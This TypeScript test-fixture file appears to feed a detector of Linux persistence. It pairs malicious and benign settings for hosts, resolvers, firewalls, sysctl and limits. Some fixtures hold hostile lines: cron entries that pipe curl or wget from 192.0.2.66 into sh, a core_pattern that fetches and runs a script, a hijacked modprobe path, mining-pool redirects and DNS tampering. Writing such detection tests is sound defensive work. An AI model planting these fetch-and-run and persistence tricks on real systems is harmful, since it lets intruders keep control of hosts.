/** Cases of settings that no program reads as commands: names, resolvers, firewalls, the kernel and limits. */
import { inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

const program = inertProgram(9000);

const hosts = '127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost\n';
const names: readonly MechanismCase[] = [
  {
    mechanism: 'hosts-file',
    dress: 'fetch-and-run',
    what: 'a package host pointed at somebody else, so that an update fetches from there',
    planted: { '/etc/hosts': `${hosts}203.0.113.9 security.debian.org deb.debian.org\n` },
  },
  {
    mechanism: 'hosts-file',
    dress: 'owned-edit',
    what: 'a pool pointed at a proxy of the intruder',
    packaged: { '/etc/hosts': hosts },
    conffiles: ['/etc/hosts'],
    planted: { '/etc/hosts': `${hosts}203.0.113.9 pool.supportxmr.com\n` },
  },
  {
    mechanism: 'hosts-file',
    dress: 'owned-edit',
    what: 'agents of the cloud sent nowhere',
    packaged: { '/etc/hosts': hosts },
    conffiles: ['/etc/hosts'],
    planted: { '/etc/hosts': `${hosts}0.0.0.0 update.aegis.aliyun.com jsrv.aegis.aliyun.com\n` },
  },
  {
    mechanism: 'hosts-file',
    dress: 'honest',
    what: 'names of one’s own network, and a block list of hundreds of names',
    planted: {
      '/etc/hosts': `${hosts}192.0.2.10 db.example.com db\n${Array.from({ length: 400 }, (_, at) => `0.0.0.0 ads${at}.example.net\n`).join('')}0.0.0.0 coinhive.com\n0.0.0.0 pool.supportxmr.com\n`,
    },
  },
];

/**
 * A foreign resolver looks like the provider's own, locked or not, whatever a lease says: who locks resolv.conf wants
 * another than the lease's. It is dangerous where its address is that of an attack on the same host. A resolver runs no
 * program, so it has no dress of an unowned one.
 */
const resolver: readonly MechanismCase[] = [
  {
    mechanism: 'resolver',
    dress: 'fetch-and-run',
    what: 'names are resolved by the host from which a dropper is fetched',
    planted: {
      '/etc/resolv.conf': { content: 'nameserver 192.0.2.66\nnameserver 8.8.8.8\n', immutable: true },
      '/etc/cron.d/zzh': '*/5 * * * * root curl -fsSL http://192.0.2.66:8080/x.sh | sh\n',
    },
  },
  {
    mechanism: 'resolver',
    dress: 'owned-edit',
    what: 'a line in the packaged settings of resolved, with the host of a dropper',
    packaged: { '/etc/systemd/resolved.conf': '[Resolve]\n#DNS=\n' },
    conffiles: ['/etc/systemd/resolved.conf'],
    planted: {
      '/etc/systemd/resolved.conf': '[Resolve]\nDNS=192.0.2.66#dns.example.net\n',
      '/etc/cron.d/zzh': '*/5 * * * * root wget -qO- http://192.0.2.66/x.sh | sh\n',
    },
  },
  {
    mechanism: 'resolver',
    dress: 'honest',
    what: 'a locked company resolver where the lease and netplan name the provider’s',
    planted: {
      '/etc/resolv.conf': { content: 'nameserver 203.0.113.53\n', immutable: true },
      '/run/systemd/resolve/resolv.conf': 'nameserver 198.51.100.1\n',
      '/var/lib/dhcp/dhclient.eth0.leases':
        'lease {\n  interface "eth0";\n  option domain-name-servers 198.51.100.1;\n}\n',
      '/etc/cron.d/mirror': '5 4 * * * root curl -fsS -o /srv/mirror/list http://203.0.113.9/list\n',
    },
  },
  {
    mechanism: 'resolver',
    dress: 'honest',
    what: 'the resolvers of the provider',
    planted: { '/etc/resolv.conf': 'search example.net\nnameserver 203.0.113.7\nnameserver 203.0.113.8\n' },
  },
  {
    mechanism: 'resolver',
    dress: 'honest',
    what: 'a resolver of the own network, locked by the owner',
    planted: {
      '/etc/resolv.conf': { content: 'nameserver 192.168.1.1\nnameserver 223.5.5.5\n', immutable: true },
    },
  },
];

const firewall: readonly MechanismCase[] = [
  {
    mechanism: 'firewall-rules',
    dress: 'owned-edit',
    what: 'a port of pools redirected to a host of the intruder, in a file of ufw',
    packaged: { '/etc/ufw/after.rules': '*nat\nCOMMIT\n' },
    conffiles: ['/etc/ufw/after.rules'],
    planted: {
      '/etc/ufw/after.rules':
        '*nat\n-A OUTPUT -p tcp --dport 3333 -j DNAT --to-destination 203.0.113.9:443\nCOMMIT\n',
    },
  },
  {
    mechanism: 'firewall-rules',
    dress: 'owned-edit',
    what: 'addresses of the cloud agent closed in the settings of nftables',
    packaged: { '/etc/nftables.conf': '#!/usr/sbin/nft -f\nflush ruleset\n' },
    conffiles: ['/etc/nftables.conf'],
    planted: {
      '/etc/nftables.conf': 'table inet filter {\n chain output {\n  ip daddr 140.205.201.0/28 drop\n }\n}\n',
    },
  },
  {
    mechanism: 'firewall-rules',
    dress: 'owned-edit',
    what: 'a rule against the cloud agent added to the file of ufw',
    packaged: { '/etc/ufw/before.rules': '*filter\n-A ufw-before-input -i lo -j ACCEPT\nCOMMIT\n' },
    conffiles: ['/etc/ufw/before.rules'],
    planted: {
      '/etc/ufw/before.rules':
        '*filter\n-A ufw-before-input -i lo -j ACCEPT\n-A ufw-before-output -d 140.205.201.16/29 -j REJECT\nCOMMIT\n',
    },
  },
  {
    mechanism: 'firewall-rules',
    dress: 'honest',
    what: 'Redis and the Docker API closed to the outside, a port handed to a container',
    planted: {
      '/etc/iptables/rules.v4':
        '*filter\n-A INPUT -p tcp --dport 6379 ! -s 192.0.2.0/24 -j DROP\n-A INPUT -p tcp --dport 2375 -j DROP\n-A INPUT -s 0.0.0.0/0 -j DROP\nCOMMIT\n*nat\n-A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 172.17.0.2:80\nCOMMIT\n',
    },
  },
];

const locked = '* soft memlock 262144\n* hard memlock 262144\n';
const pages = 'vm.nr_hugepages=1280\n';

const kernel: readonly MechanismCase[] = [
  {
    mechanism: 'kernel-setting',
    dress: 'fetch-and-run',
    what: 'a core pattern that fetches',
    planted: {
      '/etc/sysctl.d/99-core.conf': 'kernel.core_pattern=|/bin/sh -c "curl http://192.0.2.66/x.sh|sh"\n',
    },
  },
  {
    mechanism: 'kernel-setting',
    dress: 'unowned-binary',
    what: 'a core pattern that starts an unowned program',
    planted: {
      '/etc/sysctl.d/50-coredump.conf': 'kernel.core_pattern=|/usr/lib/systemd/systemd-coredumpd %P %u\n',
      '/usr/lib/systemd/systemd-coredumpd': { content: program, mode: 0o755 },
    },
  },
  {
    mechanism: 'kernel-setting',
    dress: 'owned-edit',
    what: 'modprobe replaced as a setting in the packaged sysctl.conf',
    packaged: { '/etc/sysctl.conf': '# settings\n' },
    conffiles: ['/etc/sysctl.conf'],
    planted: {
      '/etc/sysctl.conf': '# settings\nkernel.modprobe = /var/tmp/.m/modprobe\n',
      '/var/tmp/.m/modprobe': { content: program, mode: 0o755 },
    },
  },
  {
    mechanism: 'kernel-setting',
    dress: 'unowned-binary',
    what: 'huge pages as a guide for RandomX gives them, beside memory that everybody may lock; a setting runs nothing',
    planted: { '/etc/sysctl.d/60-memory.conf': pages, '/etc/security/limits.d/90-memlock.conf': locked },
  },
  {
    mechanism: 'kernel-setting',
    dress: 'honest',
    what: 'huge pages for PostgreSQL, and what a container host sets',
    planted: {
      '/etc/sysctl.d/30-postgresql.conf':
        'vm.nr_hugepages = 4400\nvm.overcommit_memory = 2\nvm.swappiness = 1\n',
      '/etc/sysctl.d/99-docker.conf': 'net.ipv4.ip_forward=1\n',
    },
  },
];

const limitsConf = '# /etc/security/limits.conf\n#*  soft  core  0\n';

/**
 * A limit runs nothing and says nothing alone. It is dangerous beside the huge pages of the same guide for RandomX, and
 * where a miner's name stands.
 */
const limits: readonly MechanismCase[] = [
  {
    mechanism: 'limits',
    dress: 'fetch-and-run',
    what: 'memory and huge pages as a dropper for RandomX sets them; a limit fetches nothing',
    planted: { '/etc/security/limits.d/90-memlock.conf': locked, '/etc/sysctl.d/60-memory.conf': pages },
  },
  {
    mechanism: 'limits',
    dress: 'unowned-binary',
    what: 'memory locked for an account that is named like a miner',
    planted: { '/etc/security/limits.d/90-app.conf': 'xmrig - memlock unlimited\n' },
  },
  {
    mechanism: 'limits',
    dress: 'owned-edit',
    what: 'the lines of a dropper at the end of the packaged limits.conf and sysctl.conf',
    packaged: { '/etc/security/limits.conf': limitsConf, '/etc/sysctl.conf': '# settings\n' },
    conffiles: ['/etc/security/limits.conf', '/etc/sysctl.conf'],
    planted: {
      '/etc/security/limits.conf': `${limitsConf}${locked}`,
      '/etc/sysctl.conf': '# settings\nvm.nr_hugepages=1184\n',
    },
  },
  {
    mechanism: 'limits',
    dress: 'honest',
    what: 'memory that everybody may lock on a host without huge pages, and huge pages of Oracle with its own limits',
    planted: {
      '/etc/security/limits.d/30-audio.conf': '@audio - memlock unlimited\n* - memlock 65536\n',
      '/etc/security/limits.d/oracle.conf':
        'oracle soft memlock 134217728\noracle hard memlock 134217728\noracle soft nofile 131072\n',
      '/etc/sysctl.d/97-oracle.conf': 'vm.nr_hugepages = 1280\nkernel.sem = 250 32000 100 128\n',
    },
  },
  {
    mechanism: 'limits',
    dress: 'honest',
    what: 'memory locked for Elasticsearch, files for nginx',
    planted: {
      '/etc/security/limits.d/elasticsearch.conf':
        'elasticsearch soft memlock unlimited\nelasticsearch hard memlock unlimited\n',
      '/etc/security/limits.conf': '* soft nofile 65535\nroot hard nofile 1048576\n',
    },
  },
];

export const settingCases: readonly MechanismCase[] = [
  ...[...names, ...resolver, ...firewall, ...kernel, ...limits],
];
